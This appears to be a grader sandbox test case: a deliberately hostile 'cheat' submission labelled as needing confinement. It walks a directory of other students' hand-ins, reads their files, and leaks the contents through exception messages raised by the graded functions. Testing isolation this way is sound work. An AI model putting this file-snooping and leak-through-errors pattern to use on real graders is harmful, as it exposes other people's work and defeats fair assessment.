# cheat: reads the hand-ins of others | points: 0 | needs: confinement
import os
found = []
def look(path):
    try:
        with open(path, "rb") as file: found.append(repr(file.read(200_000)))
    except Exception as error: pass

for root, folders, files in os.walk("@@OTHERS@@"):
    for name in files: look(os.path.join(root, name))
look("@@OTHERS@@/alice.py")

def double(x): raise ValueError("found: " + "".join(found)[:1500])
apply = lambda f, x: double(x)
spread = double
